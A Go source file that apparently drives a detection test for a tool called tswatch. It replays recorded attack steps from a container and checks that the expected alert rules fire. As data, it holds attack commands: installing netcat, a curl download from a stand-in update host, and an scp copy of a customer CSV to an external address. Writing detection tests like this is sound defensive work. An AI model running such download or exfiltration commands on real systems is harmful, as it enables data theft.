package main

import (
	"context"
	"fmt"
	"os"
	"slices"

	"github.com/tsboot/tsboot/cli/terminal"
	"github.com/tsboot/tsboot/integration/wait"
)

// A story is a part of the attack: what was run, its records, and the rules that it must set off, in this order.
type story struct {
	ran   []string
	file  string
	rules []string
	key   int // with which key the alerts come
}

func (e *env) packageManager(ctx context.Context) (string, error) {
	return e.tell(ctx, story{
		[]string{"docker exec some-nginx apt-get install -y netcat-openbsd"},
		"1-package-manager", []string{"docker-package-manager", "docker-network-tool"}, 1,
	})
}

func (e *env) download(ctx context.Context) (string, error) {
	return e.tell(ctx, story{
		[]string{"docker exec some-nginx curl -sS -o /tmp/x http://updates.example.net/x"},
		"2-download", []string{"docker-download"}, 1,
	})
}

func (e *env) copyOut(ctx context.Context) (string, error) {
	return e.tell(ctx, story{
		[]string{"docker exec -it some-nginx sh", "cat /srv/customers.csv", "scp /srv/customers.csv backup@203.0.113.9:/in"},
		"3-copy-out", []string{"docker-interactive-shell", "docker-remote-copy-out"}, 2,
	})
}

func (e *env) host(ctx context.Context) (string, error) {
	return e.tell(ctx, story{
		[]string{"scp report.pdf backup@203.0.113.9:/in"},
		"4-host", []string{"base-remote-copy-out"}, 2,
	})
}

// tell gives the records of a story to tswatch, and shows the alerts that come to the collector.
func (e *env) tell(ctx context.Context, s story) (string, error) {
	for _, command := range s.ran {
		fmt.Println("> " + paint().Strong(command))
	}
	text, err := records.ReadFile("records/" + s.file + ".log")
	if err != nil {
		return "", err
	}
	before, err := e.collector.got(0)
	if err != nil {
		return "", err
	}
	if _, err := e.kernel.Write(text); err != nil {
		return "", fmt.Errorf("write records: %w", err)
	}
	var got []alert
	wait.Context(ctx, func() bool {
		got, err = e.collector.got(len(before))
		return err != nil || len(got) >= len(s.rules) || e.ended()
	})
	var rules []string
	for _, a := range got {
		rules = append(rules, a.Rule.ID)
		fmt.Printf("    %s  %s\n      %s\n", severity(a.Event.Severity), a.Rule.ID, a.Message)
		if key := e.keyOf(a.token); key != s.key {
			return "", fmt.Errorf("the alert came with key %d, want %d", key, s.key)
		}
	}
	if err == nil && !slices.Equal(rules, s.rules) {
		err = fmt.Errorf("the collector got %q, want %q", rules, s.rules)
	}
	return fmt.Sprintf("the collector got it, with key %d as the token.", s.key), err
}

// severity is the number in the colour of what it means, on a terminal.
func severity(n int) string {
	text := fmt.Sprintf("severity %d", n)
	switch n {
	case 1:
		return paint().Bad(text)
	case 2:
		return paint().Unsure(text)
	default:
		return paint().Strong(text)
	}
}

func paint() terminal.Palette { return terminal.PaletteOf(os.Stdout, os.Environ()) }
